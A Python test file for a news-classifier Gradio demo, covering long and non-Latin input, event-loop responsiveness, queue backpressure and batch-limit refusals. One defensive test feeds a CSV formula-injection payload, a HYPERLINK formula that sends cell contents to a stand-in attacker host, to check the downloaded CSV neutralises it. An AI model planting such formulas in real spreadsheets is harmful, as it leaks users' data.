"""The Gradio demo against ordinary and hostile input, through the real Space (``uvicorn app.app:app`` on
127.0.0.1) and the real ``gradio_client``: Explain on a one-word text, a Japanese and a Thai headline and a
300,000-character article; the event loop staying free during a long Explain; jobs over the Batch tab's limits
refused up front; formula cells made inert in the CSV the tab serves. A Batch-tab job larger than the queue,
started while other callers fill it, waits for room and completes: that Space runs in this process, so that its
model calls can be held while the test fills the queue.

The Spaces run with a small queue (MAX_QUEUE=72), a small window budget (MAX_WINDOWS_PER_REQUEST=24) and windows of
32 tokens, so that a job larger than the queue and an article over the budget stay small and quick.
"""

from __future__ import annotations

import csv
import random
import subprocess
import sys
import threading
import time

import httpx
import pytest

from conftest import CLASS_WORDS, FILLER, ag_news_rows, free_port
from distrinews.serving.web.demo import BATCH_TAB_LIMIT, BATCH_TAB_MAX_WINDOWS
from space_support import raw_json, space_env, uvicorn_server, wait_until_ready

QUEUE, BUDGET, WINDOW, TEXT_CHARS = 72, 24, 32, 100_000
INTERNAL = ("texts[", "MAX_", "windows of", "Traceback", "Error")  # what only the server's own messages say


@pytest.fixture(scope="module")
def space(shipped_space_model, tmp_path_factory):
    folder = tmp_path_factory.mktemp("demo-hostile")
    with uvicorn_server(str(shipped_space_model), folder / "onnx", folder / "uvicorn.log", QUANTIZE="int8",
                        MAX_QUEUE=str(QUEUE), MAX_WINDOWS_PER_REQUEST=str(BUDGET), MAX_LENGTH=str(WINDOW),
                        MAX_TEXT_CHARS=str(TEXT_CHARS), MAX_BATCH_SIZE="8", MAX_TEXTS_PER_REQUEST="8",
                        GRADIO_TEMP_DIR=str(folder / "gradio"), INFERENCE_THREADS="1") as base_url:
        yield base_url


@pytest.fixture()
def client(space, tmp_path):
    from gradio_client import Client

    return Client(space, verbose=False, download_files=str(tmp_path))


def article(characters: int, seed: int = 3) -> str:
    """News prose, repeated to ``characters`` characters."""
    prose = " ".join(f"{title} {body}" for _, title, body in ag_news_rows(200, seed=seed))
    return (prose + " ") * (characters // (len(prose) + 1)) + prose[:characters % (len(prose) + 1)]


def vocabulary_words(count: int, seed: int) -> str:
    """``count`` words of the tiny model's vocabulary: ``count`` tokens, so a known number of windows."""
    rng = random.Random(seed)
    vocabulary = [word for words in CLASS_WORDS.values() for word in words] + FILLER
    return " ".join(rng.choice(vocabulary) for _ in range(count))


THREE_WINDOWS = 60  # words: more than the 52 tokens two windows of 32 hold (30 each, 8 shared), under three's 74


def scraped(base_url: str, name: str) -> float:
    from prometheus_client.parser import text_string_to_metric_families

    families = text_string_to_metric_families(httpx.get(f"{base_url}/metrics").text)
    return sum(sample.value for family in families for sample in family.samples if sample.name == name)


# ---------------------------------------------------------------- Explain

def test_explain_answers_a_one_word_text_against_the_empty_input(client):
    from gradio_client.exceptions import AppError

    words, said = client.predict("Olympics", api_name="/explain")
    assert [w["token"] for w in words] == ["Olympics"] and isinstance(words[0]["class_or_confidence"], float)
    assert said.startswith("Read the whole text") and "empty" in said
    assert not any(internal in said for internal in INTERNAL), said
    for blank in ("", " \u200b\x00 "):  # nothing to explain: the visitor is told what to do, in their words
        with pytest.raises(AppError, match="^Type a headline first.$"):
            client.predict(blank, api_name="/explain")


@pytest.mark.parametrize("text, parts", [
    ("株価が上昇した", ["株", "価", "が", "上", "昇", "した"]),
    ("ราคาหุ้นพุ่งขึ้น", ["ราคาหุ้นพุ่งขึ้น"]),  # one token to this model's vocabulary: one part
])
def test_explain_cuts_scripts_without_spaces_into_the_models_tokens(client, text, parts):
    words, said = client.predict(text, api_name="/explain")
    assert [w["token"] for w in words] == parts
    assert all(isinstance(w["class_or_confidence"], float) for w in words)
    assert said.startswith("Read the whole text"), said


def test_explain_reads_a_long_article_within_the_window_budget_and_says_what_it_read(client, space):
    text = article(300_000)
    windows_before = scraped(space, "distrinews_batch_size_sum")
    words, said = client.predict(text, api_name="/explain")
    scored = [w for w in words if w["class_or_confidence"] is not None]
    assert len(scored) == BUDGET - 1 < len(words)  # the window and one variant per part: the budget exactly
    assert text.startswith("".join(w["token"] for w in words))
    assert f"Explained the first {WINDOW - 2} tokens" in said and "of 300,000 characters" in said, said
    assert f"The first {BUDGET - 1} of {len(words)} parts were scored" in said, said
    assert not any(internal in said for internal in INTERNAL), said
    assert scraped(space, "distrinews_batch_size_sum") - windows_before == BUDGET


# Probes /api/health (argv[1]) until its stdin closes, then prints the slowest answer's seconds and the count. A
# process of its own: a thread of the test would share the GIL with the client and could miss a stall.
HEALTH_PROBE = """
import select, sys, time
import httpx
worst = count = 0
with httpx.Client(timeout=120) as http:
    while not select.select([sys.stdin], [], [], 0.01)[0]:
        started = time.perf_counter()
        if http.get(sys.argv[1]).status_code == 200:
            worst, count = max(worst, time.perf_counter() - started), count + 1
            if count == 1:
                print("probing", flush=True)
print(worst, count, flush=True)
"""


def test_the_event_loop_stays_free_during_a_long_explain(client, space):
    # Words of a script outside ASCII are the slowest to clean: every character is looked at. 250,000 of them are
    # 583 KB of UTF-8, within the demo's body limit (MAX_TEXT_CHARS x 6 + 64 KiB).
    text = ("東京 株価 上昇 " * 40_000)[:250_000]
    client.predict("warm up the explain path", api_name="/explain")
    prober = subprocess.Popen([sys.executable, "-c", HEALTH_PROBE, f"{space}/api/health"], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert prober.stdout.readline() == "probing\n"
        answer = client.predict(text, api_name="/explain")
    except Exception as err:  # noqa: BLE001 - the loop's stall is asserted first, whatever the answer
        answer = err
    finally:
        worst, probes = prober.communicate("", timeout=120)[0].split()
    # Generous for a loaded machine: before the handlers moved their work off the loop it was held for seconds.
    assert int(probes) >= 2 and float(worst) < 1.0, (worst, probes)
    words, said = answer
    assert "of 250,000 characters" in said and words


# ---------------------------------------------------------------- Batch tab

def eventually(condition, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "not reached in time"
        time.sleep(0.01)


@pytest.fixture(scope="module")
def gated_space(shipped_space_model, tmp_path_factory):
    """The same Space in this process (uvicorn in a thread), its one lane's model calls held while ``gate`` is
    clear: a slow model, so that the queue can be full when a test needs it to be. A lone window at an idle
    server runs on the event loop and is never held."""
    import uvicorn

    from distrinews.serving.service import ClassifierService, ServingConfig
    from distrinews.serving.web import create_app

    config = ServingConfig.from_env(space_env(
        str(shipped_space_model), tmp_path_factory.mktemp("onnx"), QUANTIZE="int8", MAX_QUEUE=str(QUEUE),
        MAX_WINDOWS_PER_REQUEST=str(BUDGET), MAX_LENGTH=str(WINDOW), MAX_BATCH_SIZE="8", MAX_TEXTS_PER_REQUEST="8",
        INFERENCE_THREADS="1", INFERENCE_LANES="1"))
    service, gate = ClassifierService.load(config), threading.Event()
    gate.set()
    model_call = service.backend.logits

    def held_while_gate_is_clear(batch):
        if threading.current_thread().name.startswith("inference-"):
            assert gate.wait(60), "the test never opened the gate"
        return model_call(batch)

    service.backend.logits = held_while_gate_is_clear
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(config, service=service), host="127.0.0.1", port=port,
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        wait_until_ready(f"http://127.0.0.1:{port}", 60)
        yield f"http://127.0.0.1:{port}", service, gate
    finally:
        gate.set()
        server.should_exit = True
        thread.join(30)


def test_a_batch_job_larger_than_the_queue_waits_for_room_and_completes(gated_space, tmp_path):
    from gradio_client import Client

    base_url, service, gate = gated_space
    client = Client(base_url, verbose=False, download_files=str(tmp_path))
    # 240 windows, over three times the queue, in pieces of 8 texts: each piece is the whole window budget.
    texts = [vocabulary_words(THREE_WINDOWS, seed=100 + i) for i in range(80)]
    callers = [raw_json({"texts": [vocabulary_words(THREE_WINDOWS, seed=caller * 10 + i) for i in range(8)]})
               for caller in range(4)]
    statuses: list[int] = []
    gate.clear()
    refused = service.batcher.stats.refused_requests
    # Other callers fill the queue (the first's first batch is held in the lane; the fourth does not fit) ...
    senders = [threading.Thread(target=lambda body=body: statuses.append(httpx.post(
        f"{base_url}/api/predict", content=body, headers={"content-type": "application/json"},
        timeout=60).status_code)) for body in callers]
    held = service.config.max_batch_size  # the first batch, taken into the lane and held there
    for queued, sender in enumerate(senders, start=1):
        sender.start()
        eventually(lambda: service.batcher.waiting == min(queued, 3) * BUDGET - held and len(statuses) == queued // 4)
    assert statuses == [429] and service.batcher.waiting > QUEUE - BUDGET
    # ... so the job's first piece finds it full; the job waits for room instead of failing.
    job = client.submit("\n".join(texts), None, api_name="/classify_many")
    eventually(lambda: service.batcher.stats.refused_requests >= refused + 2)
    assert not job.done()
    progress = list(job.status().progress_data or [])
    gate.set()
    while not job.done():
        progress += job.status().progress_data or []
        time.sleep(0.02)
    table, csv_path = job.result()
    for sender in senders:
        sender.join(60)
    assert sorted(statuses) == [200, 200, 200, 429]
    assert [row[0] for row in table["value"]["data"]] == texts
    with open(csv_path, newline="", encoding="utf-8") as handle:
        assert [row[0] for row in list(csv.reader(handle))[1:]] == texts
    assert any(unit.unit == "texts" and unit.length == len(texts) for unit in progress), progress


def test_jobs_over_the_tabs_limits_are_refused_up_front(client, space, tmp_path):
    from gradio_client import handle_file
    from gradio_client.exceptions import AppError

    classified_before = scraped(space, "distrinews_texts_classified_total")
    long_texts = tmp_path / "long.csv"  # each text needs the most windows a text is read in (16)
    count = BATCH_TAB_MAX_WINDOWS // 16 + 1
    with long_texts.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["text"], *([article(4000, seed=i)] for i in range(count))])
    with pytest.raises(AppError, match=f"These {count} texts need {count * 16:,} windows of {WINDOW} tokens .* "
                                       f"at most {BATCH_TAB_MAX_WINDOWS:,} at once"):
        client.predict("", handle_file(str(long_texts)), api_name="/classify_many")
    with pytest.raises(AppError, match=f"at most {BATCH_TAB_LIMIT:,} at once"):
        client.predict("\n".join(f"headline {i}" for i in range(BATCH_TAB_LIMIT + 1)), None,
                       api_name="/classify_many")
    with pytest.raises(AppError, match="Upload a CSV for more"):
        client.predict("x" * (TEXT_CHARS + 1), None, api_name="/classify_many")
    assert scraped(space, "distrinews_texts_classified_total") == classified_before  # nothing of them was classified


def test_formula_cells_are_inert_in_the_downloaded_csv_and_unchanged_elsewhere(client):
    texts = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+2", "-3", "@SUM(A1:A2)",
             "plain headline", "a - b = c"]
    table, csv_path = client.predict("\n".join(texts), None, api_name="/classify_many")
    assert [row[0] for row in table["value"]["data"]] == texts  # the table shown keeps the text as it was
    with open(csv_path, newline="", encoding="utf-8") as handle:
        header, *rows = csv.reader(handle)
    assert header[:3] == ["text", "label", "score"]
    assert [row[0] for row in rows] == [f"'{text}" for text in texts[:4]] + texts[4:]
    assert all(0.0 <= float(row[2]) <= 1.0 for row in rows)  # scores are numbers, written as numbers


def test_batch_pieces_keep_within_the_window_budget_and_the_request_size():
    from distrinews.serving.web.demo import pieces_of

    windows = [1, 3, 16, 16, 1, 1, 1, 30, 2]
    pieces = pieces_of(windows, budget=24, max_texts=3)
    assert [list(piece) for piece in pieces] == [[0, 1, 2], [3, 4, 5], [6], [7], [8]]
    assert pieces_of([], budget=24, max_texts=3) == []
